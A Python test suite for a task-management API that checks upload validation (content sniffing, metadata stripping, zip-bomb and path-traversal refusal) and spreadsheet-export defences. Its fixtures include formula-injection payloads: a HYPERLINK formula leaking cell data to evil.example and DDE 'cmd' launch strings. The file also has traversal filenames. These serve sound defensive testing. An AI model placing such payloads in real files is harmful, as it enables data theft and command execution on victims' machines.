"""Uploads judged by their bytes (report and rectification attachments, the task-list import), images
stored without EXIF/GPS, zip bombs refused before openpyxl opens them; and every spreadsheet export
(ledger, bulletin) writes text that looks like a formula as text."""

import io
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from reform_common.testfiles import (
    declared_bomb,
    has_metadata,
    lying_sizes,
    many_entries,
    photo_with_gps,
    png,
    ratio_bomb,
)

API = "/api/tasks/v1"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OLD_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
# One per character the OWASP rule names; Excel or WPS would run each of them.
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
    "measures": "+cmd|' /C calc'!A0",
    "goal": "-2+3+cmd|' /C calc'!A0",
    "special_group": "@SUM(1+1)*cmd|' /C calc'!A0",
    "benchmark_city": "\t=1+1",
    "leading_official": "\r=1+1",
}


def docx_file() -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("整改报告")
    document.save(out)
    return out.getvalue()


def xlsx_file() -> bytes:
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


@pytest.fixture
def report(client, as_user, make_plan, make_task):
    async def _report() -> dict:
        await make_plan()
        task = await make_task()
        resp = await client.post(f"{API}/tasks/{task['code']}/reports", headers=as_user("scjg"),
                                 json={"content": "附件测试", "progress": 5})
        assert resp.status_code == 201, resp.text
        return resp.json()

    return _report


async def test_report_attachments_are_judged_by_content(client, as_user, report, app):
    rid = (await report())["id"]
    scjg = as_user("scjg")

    async def attach(name: str, data: bytes, content_type: str = "application/octet-stream"):
        return await client.post(f"{API}/reports/{rid}/attachments", headers=scjg,
                                 files={"file": (name, data, content_type)})

    accepted = [
        ("../../../../srv/www/进展材料.bin", docx_file(), "application/vnd.openxmlformats-officedocument."
                                                          "wordprocessingml.document", "进展材料.bin"),
        ("统计表.xlsx", xlsx_file(), XLSX, "统计表.xlsx"),
        ("现场.pdf", png(), "image/png", "现场.pdf"),  # a PNG named .pdf is stored and served as a PNG
        ("C:\\照片\\IMG_0001.JPG", photo_with_gps(), "image/jpeg", "IMG_0001.JPG"),
    ]
    for name, data, content_type, shown in accepted:
        up = await attach(name, data)
        assert up.status_code == 201, up.text
        last = up.json()["attachments"][-1]
        assert (last["filename"], last["content_type"]) == (shown, content_type)
    photo = await client.get(f"{API}/reports/{rid}/attachments/3", headers=as_user("fgw"))
    assert photo.status_code == 200 and photo.headers["content-type"] == "image/jpeg"
    assert not has_metadata(photo.content)
    # Stored under generated names inside the store, never under the client's name.
    store = Path(app.state.settings.tasks_storage_dir).resolve() / "reports" / rid
    assert sorted(p.suffix for p in store.iterdir()) == [".docx", ".jpg", ".png", ".xlsx"]
    assert not any("进展" in p.name or "IMG" in p.name for p in store.iterdir())

    refused = [
        ("tool.pdf", b"MZ\x90\x00" + bytes(64), 415, "reports.attachment_type"),
        ("old.doc", OLD_XLS, 415, "reports.attachment_type"),
        ("archive.docx", b"PK\x03\x04" + bytes(64), 422, "reports.attachment_damaged"),
        ("bomb.docx", declared_bomb("word/document.xml"), 413, "reports.attachment_archive_unsafe"),
        ("bomb.xlsx", ratio_bomb(), 413, "reports.attachment_archive_unsafe"),
        ("broken.jpg", b"\xff\xd8\xff\xe0 not really", 422, "reports.attachment_damaged"),
    ]
    for name, data, status, code in refused:
        resp = await attach(name, data, "application/pdf")
        assert (resp.status_code, resp.json()["code"]) == (status, code), name
        assert resp.headers["content-type"] == "application/problem+json"
    assert "另存为" in (await attach("old.doc", OLD_XLS)).json()["detail"]


async def test_rectification_attachments_are_judged_by_content(client, as_user, make_plan, make_task):
    await make_plan()
    task = await make_task()
    inspection = await client.post(f"{API}/inspections", headers=as_user("office"), params={"as_of": "2026-09-10"},
                                   json={"kind": "spot_check", "task_code": task["code"], "inspected_on": "2026-09-10",
                                         "method": "查阅资料", "inspectors": ["督察组"],
                                         "findings": [{"description": "台账不全", "requires_rectification": True,
                                                       "rectification": {"deadline_days": 10}}]})
    assert inspection.status_code == 201, inspection.text
    rid = inspection.json()["findings"][0]["rectification"]["id"]
    fgw = as_user("fgw")
    text = await client.post(f"{API}/rectifications/{rid}/attachments", headers=fgw,
                             files={"file": ("整改报告.pdf", "<html>不是PDF</html>".encode(), "application/pdf")})
    assert (text.status_code, text.json()["code"]) == (415, "rectifications.attachment_type")
    up = await client.post(f"{API}/rectifications/{rid}/attachments", headers=fgw,
                           files={"file": ("整改后.jpg", photo_with_gps(), "image/jpeg")})
    assert up.status_code == 201, up.text
    down = await client.get(f"{API}/rectifications/{rid}/attachments/0", headers=as_user("office"))
    assert down.status_code == 200 and not has_metadata(down.content)


@pytest.mark.parametrize(("name", "data", "status", "code"), [
    ("清单.xlsx", declared_bomb(), 413, "imports.archive_unsafe"),  # declares 4 GB: refused unexpanded
    ("清单.xlsx", ratio_bomb(), 413, "imports.archive_unsafe"),  # 16 MB of zeros in 17 KB
    ("清单.xlsx", many_entries(), 413, "imports.archive_unsafe"),
    ("清单.xlsx", lying_sizes(), 422, "imports.damaged"),  # expands past what it declares
    ("清单.xlsx", docx_file(), 415, "imports.type"),  # a zip, but a Word document
    ("清单.xlsx", "序号,改革任务\n1,=1+1\n".encode(), 415, "imports.type"),
    ("清单.xls", OLD_XLS, 415, "imports.type"),
    ("清单.xlsx", b"", 422, "imports.empty"),
])
async def test_task_list_import_refuses_what_is_not_a_workbook(client, as_user, name, data, status, code):
    resp = await client.post(f"{API}/imports", headers=as_user("office"), data={"year": "2026"},
                             files={"file": (name, data, XLSX)})
    assert (resp.status_code, resp.json()["code"]) == (status, code), resp.text
    assert resp.headers["content-type"] == "application/problem+json"


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_no_formula(content: bytes, hostile: list[str]) -> None:
    """No cell is a formula; each hostile text is there unchanged, as text Excel keeps as text."""
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for text in hostile:
        found = [c for c in cells if c.value == text.replace("\r", "\n") or c.value == text]
        assert found, text
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text


async def test_ledger_export_writes_formulas_as_text_and_imports_back(client, as_user, make_plan, make_task):
    await make_plan()
    plain = {k: HOSTILE[k] for k in ("title", "measures", "goal", "special_group")}
    await make_task(**plain)
    # Leading tab and CR: the import trims them, so this task is only checked in the export.
    await make_task(title="空白开头", benchmark_city=HOSTILE["benchmark_city"],
                    leading_official=HOSTILE["leading_official"])
    office = as_user("office")
    exported = await client.get(f"{API}/tasks/export.xlsx", headers=office, params={"year": 2026})
    assert exported.status_code == 200, exported.text
    assert_no_formula(exported.content, list(HOSTILE.values()))
    # The value is unchanged (no apostrophe added), so the export imports back as the same task.
    preview = await client.post(f"{API}/imports", headers=office, data={"year": "2026"},
                                files={"file": ("台账.xlsx", exported.content, XLSX)})
    assert preview.status_code == 201, preview.text
    actions = {r["title"]: r["action"] for r in preview.json()["rows"]}
    assert actions[HOSTILE["title"]] == "unchanged"


async def test_bulletin_workbook_writes_formulas_as_text(client, as_user, make_plan, make_task):
    await make_plan()
    title = HOSTILE["title"]
    await make_task(title=title, milestones=[{"title": "@方案出台", "due_date": "2026-09-15"}])
    office = as_user("office")
    bulletin = await client.post(f"{API}/bulletins", headers=office,
                                 json={"kind": "monthly", "period": "2026-09", "as_of": "2026-09-30"})
    assert bulletin.status_code == 201, bulletin.text
    workbook = await client.get(f"{API}/bulletins/{bulletin.json()['id']}.xlsx", headers=office)
    assert workbook.status_code == 200, workbook.text
    assert_no_formula(workbook.content, [title])
